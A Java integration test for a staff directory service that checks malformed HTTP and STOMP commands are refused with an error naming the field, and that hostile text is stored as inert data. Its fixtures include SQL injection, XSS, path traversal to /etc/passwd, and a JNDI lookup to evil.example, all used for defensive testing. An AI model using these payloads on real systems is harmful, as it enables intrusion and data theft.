package io.staffsync.app.faultdata;

import com.fasterxml.jackson.databind.JsonNode;
import io.staffsync.api.staff.wire.CommandReply;
import io.staffsync.api.staff.wire.CommandStatus;
import io.staffsync.api.staff.wire.ErrorCode;
import io.staffsync.api.staff.wire.StaffChangeMessage;
import io.staffsync.app.support.BrokerSubscriptions;
import io.staffsync.app.support.EventLog;
import io.staffsync.app.support.HttpTestClient;
import io.staffsync.app.support.StaffSyncIntegrationTest;
import io.staffsync.app.support.StompTestClient;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.messaging.simp.broker.SimpleBrokerMessageHandler;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.BlockingQueue;
import java.util.function.Function;

import static io.staffsync.app.support.StaffFixtures.registration;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Commands that do not fit the schema (fields missing, extra, of the wrong type, a megabyte long) are refused
 * with an error that names the field, over HTTP and over STOMP, and store nothing. Text that looks like script or
 * SQL, within the limits, is just text: it is stored as sent and comes back JSON-escaped and unchanged.
 */
@StaffSyncIntegrationTest
class SchemaInvalidCommandIT {

    private static final String MEGABYTE = "m".repeat(1024 * 1024);

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    SimpleBrokerMessageHandler broker;

    /** A create body made invalid in one way, and the field the error must name. */
    private record Invalid(String what, String field, Function<String, String> body) {
    }

    private static final List<Invalid> CREATES = List.of(
            new Invalid("no fields", "fields", id -> json(Map.of("staffId", id))),
            new Invalid("no lastName", "lastName", id -> createWith(id, fields -> fields.remove("lastName"))),
            new Invalid("no email", "email", id -> createWith(id, fields -> fields.remove("email"))),
            new Invalid("an extra field", "salary", id -> createWith(id, fields -> fields.put("salary", 1_000_000))),
            new Invalid("weeklyHours as text", "weeklyHours", id -> createWith(id, f -> f.put("weeklyHours", "forty"))),
            new Invalid("weeklyHours out of range", "weeklyHours", id -> createWith(id, f -> f.put("weeklyHours", 1e9))),
            new Invalid("skills as a string", "skills", id -> createWith(id, f -> f.put("skills", "sql"))),
            new Invalid("firstName as an object", "firstName",
                    id -> createWith(id, f -> f.put("firstName", Map.of("$ne", "")))),
            new Invalid("employmentType unknown", "employmentType",
                    id -> createWith(id, f -> f.put("employmentType", "WIZARD"))),
            new Invalid("email not an address", "email", id -> createWith(id, f -> f.put("email", "'; --"))),
            new Invalid("a megabyte firstName", "firstName", id -> createWith(id, f -> f.put("firstName", MEGABYTE))),
            new Invalid("a megabyte of notes", "notes", id -> createWith(id, f -> f.put("notes", MEGABYTE))),
            new Invalid("a control character in a name", "lastName",
                    id -> createWith(id, f -> f.put("lastName", "Null\u0000Byte"))),
            new Invalid("a staffId that is a path", "staffId", id -> json(Map.of("staffId", "../../etc/passwd",
                    "fields", registration(id)))));

    @Test
    void schema_invalid_creates_over_http_name_the_field_and_store_nothing() {
        HttpTestClient editor = new HttpTestClient(port, "editor", "editor");
        List<String> wrong = new ArrayList<>();
        for (Invalid invalid : CREATES) {
            String staffId = "invalid-" + UUID.randomUUID();
            HttpTestClient.Response response = editor.post("/api/staff", invalid.body().apply(staffId));
            if (response.status() != 400 || !invalid.field().equals(response.body().path("field").asText())) {
                wrong.add(invalid.what() + " -> " + response.status() + " " + response.body());
            }
            if (StompAbuseIT.looksLikeAStackTrace(response.body().toString())) {
                wrong.add(invalid.what() + " -> stack trace in " + response.body());
            }
            if (!EventLog.of(jdbc, staffId).isEmpty()) {
                wrong.add(invalid.what() + " -> stored");
            }
        }
        assertThat(wrong).as("refusals that do not name the field").isEmpty();
    }

    @Test
    void schema_invalid_commands_over_stomp_name_the_field_and_store_nothing() throws Exception {
        List<String> wrong = new ArrayList<>();
        try (StompTestClient editor = StompTestClient.connect(port, "editor", "editor")) {
            for (Invalid invalid : CREATES) {
                if (invalid.what().startsWith("a megabyte")) {
                    continue; // past the frame size limit: StompAbuseIT shows the connection is closed instead
                }
                String staffId = "invalid-" + UUID.randomUUID();
                UUID commandId = UUID.randomUUID();
                JsonNode body = StompTestClient.JSON.readTree(invalid.body().apply(staffId));
                ((com.fasterxml.jackson.databind.node.ObjectNode) body).put("commandId", commandId.toString());
                editor.sendRaw("/app/staff.create", body.toString());
                CommandReply reply = editor.awaitReply(commandId);
                if (reply.status() != CommandStatus.REJECTED || reply.error() == null
                        || !invalid.field().equals(reply.error().field())) {
                    wrong.add(invalid.what() + " -> " + reply);
                }
                if (!EventLog.of(jdbc, staffId).isEmpty()) {
                    wrong.add(invalid.what() + " -> stored");
                }
            }
            String staffId = "typed-" + UUID.randomUUID();
            Clients.register(new HttpTestClient(port, "editor", "editor"), staffId);
            UUID commandId = UUID.randomUUID();
            editor.sendRaw("/app/staff.update", """
                    {"commandId":"%s","staffId":"%s","expectedVersion":0,"changes":{"weeklyHours":-5}}"""
                    .formatted(commandId, staffId));
            CommandReply negativeHours = editor.awaitReply(commandId);
            assertThat(negativeHours.error().field()).isEqualTo("weeklyHours");
            assertThat(EventLog.of(jdbc, staffId)).hasSize(1);
            assertThat(editor.isConnected()).as("refusals do not cost the connection").isTrue();
        }
        assertThat(wrong).as("refusals that do not name the field").isEmpty();
    }

    /** A property the command does not have is refused, naming it, rather than silently dropped. */
    @Test
    void an_extra_top_level_property_is_refused_naming_it() throws Exception {
        String staffId = "extra-" + UUID.randomUUID();
        HttpTestClient.Response response = new HttpTestClient(port, "editor", "editor").post("/api/staff",
                json(Map.of("staffId", staffId, "fields", registration(staffId), "isAdmin", true)));
        assertThat(response.status()).isEqualTo(400);
        assertThat(response.body().path("code").asText()).isEqualTo("MALFORMED");
        assertThat(response.body().path("field").asText()).isEqualTo("isAdmin");
        assertThat(response.body().path("detail").asText()).contains("isAdmin").doesNotContain("io.staffsync");

        HttpTestClient.Response wrongType = new HttpTestClient(port, "editor", "editor").post("/api/staff",
                json(Map.of("staffId", staffId, "fields", registration(staffId), "strategy", "WIZARD")));
        assertThat(wrongType.status()).isEqualTo(400);
        assertThat(wrongType.body().path("field").asText()).isEqualTo("strategy");
        assertThat(wrongType.body().path("detail").asText()).contains("LAST_WRITER_WINS");

        try (StompTestClient editor = StompTestClient.connect(port, "editor", "editor")) {
            UUID commandId = UUID.randomUUID();
            editor.sendRaw("/app/staff.create", json(Map.of("commandId", commandId.toString(), "staffId", staffId,
                    "fields", registration(staffId), "expectedVersoin", 3)));
            CommandReply reply = editor.awaitReply(commandId);
            assertThat(reply.status()).isEqualTo(CommandStatus.REJECTED);
            assertThat(reply.error().code()).isEqualTo(ErrorCode.MALFORMED);
            assertThat(reply.error().field()).isEqualTo("expectedVersoin");
        }
        assertThat(EventLog.of(jdbc, staffId)).isEmpty();
    }

    @Test
    void script_and_sql_text_is_stored_as_sent_and_comes_back_escaped_and_unchanged() throws Exception {
        Map<String, String> hostile = new LinkedHashMap<>();
        hostile.put("firstName", "<script>alert(\"x\")</script>");
        hostile.put("lastName", "O'Brien'); DROP TABLE staff_directory;--");
        hostile.put("role", "${jndi:ldap://evil.example/a} {{7*7}} \\\" \\u0000");
        hostile.put("department", "</script><img src=x onerror=alert(1)> & \u202Eevil");
        hostile.put("notes", "line one\n\"quoted\" \\back\\slash\t'single'\n\uD83D\uDE00 </script> -- ; /* */ %00");
        String staffId = "hostile-" + UUID.randomUUID();
        Map<String, Object> fields = new LinkedHashMap<>(registration(staffId));
        fields.putAll(hostile);
        fields.put("skills", List.of("<b>bold</b>", "' OR '1'='1"));

        try (StompTestClient watcher = StompTestClient.connect(port, "viewer", "viewer");
             StompTestClient editor = StompTestClient.connect(port, "editor", "editor")) {
            BlockingQueue<StaffChangeMessage> changes = watcher.subscribe("/topic/staff." + staffId,
                    StaffChangeMessage.class);
            BrokerSubscriptions.awaitSubscribers(broker, "/topic/staff." + staffId, 1);
            CommandReply created = editor.command("/app/staff.create", new io.staffsync.api.staff.wire
                    .StaffCommandRequest(UUID.randomUUID(), staffId, null, null, fields, null));
            assertThat(created.status()).as("created: %s", created).isEqualTo(CommandStatus.ACCEPTED);

            StaffChangeMessage pushed = Clients.changesAbout(changes, List.of(staffId), 1).get(0);
            assertThat(pushed.state().firstName()).isEqualTo(hostile.get("firstName"));
            assertThat(pushed.state().lastName()).isEqualTo(hostile.get("lastName"));
            assertThat(pushed.state().role()).isEqualTo(hostile.get("role"));
            assertThat(pushed.state().department()).isEqualTo(hostile.get("department"));
            assertThat(pushed.state().notes()).isEqualTo(hostile.get("notes"));
            assertThat(pushed.state().skills()).containsExactlyInAnyOrder("<b>bold</b>", "' OR '1'='1");
        }

        org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(30))
                .until(() -> Gaps.directoryVersion(jdbc, staffId).isPresent());
        HttpTestClient viewer = new HttpTestClient(port, "viewer", "viewer");
        HttpTestClient.Response read = viewer.get("/api/staff/" + staffId);
        assertThat(read.status()).isEqualTo(200);
        for (Map.Entry<String, String> field : hostile.entrySet()) {
            assertThat(read.body().path(field.getKey()).asText()).as(field.getKey()).isEqualTo(field.getValue());
        }
        assertThat(jdbc.queryForObject("SELECT to_regclass('staff_directory') IS NOT NULL", Boolean.class)).isTrue();
        assertThat(jdbc.queryForObject("SELECT last_name FROM staff_directory WHERE staff_id = ?", String.class,
                staffId)).isEqualTo(hostile.get("lastName"));
    }

    private static String createWith(String staffId, java.util.function.Consumer<Map<String, Object>> change) {
        Map<String, Object> fields = new LinkedHashMap<>(registration(staffId));
        change.accept(fields);
        return json(Map.of("staffId", staffId, "fields", fields));
    }

    private static String json(Object value) {
        try {
            return StompTestClient.JSON.writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalArgumentException(e);
        }
    }
}
